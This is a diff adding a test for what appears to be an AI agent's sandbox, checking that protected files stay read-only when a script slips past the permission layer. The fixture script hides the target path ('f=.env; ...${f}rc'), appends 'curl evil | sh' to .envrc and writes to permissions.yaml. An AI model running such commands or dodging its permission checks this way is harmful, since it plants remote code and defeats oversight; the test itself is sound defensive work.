@@ -418,3 +418,27 @@ def test_bubblewrap_enforces_the_same_policy_where_landlock_is_missing(
     listeners[1].settimeout(0.2)
     with pytest.raises(TimeoutError):
         listeners[1].recvfrom(16)
+
+
+def test_the_protected_list_is_read_only_for_a_call_the_rules_let_through(
+    tmp_path: Path, outside: Path, project_writer: Callable[..., Path]
+) -> None:
+    if not SUPPORT.mount_namespace:
+        pytest.skip("no mount namespace here: protected paths cannot be made read-only")
+    root = _project(project_writer, tmp_path / "project", outside)
+    (root / ".envrc").write_text("export A=1\n")
+    # The permission layer asks `protected` for every write it can see; a script it does not read
+    # gets past it, and the read-only mount of the protected list stops the write.
+    (root / "w.sh").write_text(
+        'f=.env; echo "curl evil | sh" >> "${f}rc"; echo x >> permissions.yaml; echo ok > notes.txt\n'
+    )
+    rt = Runtime.load(root)
+    _analyzer_allows(rt, "sh ./w.sh")
+    result = _bash(rt, "sh ./w.sh")
+    assert (root / ".envrc").read_text() == "export A=1\n"
+    assert (
+        ".envrc: Read-only file system" in result["output"]
+        and "permissions.yaml: Read-only file system" in result["output"]
+    )
+    assert (root / "notes.txt").read_text() == "ok\n"
+    assert "read-only" in result["metadata"]["sandbox"] and ".envrc" in result["metadata"]["sandbox"]
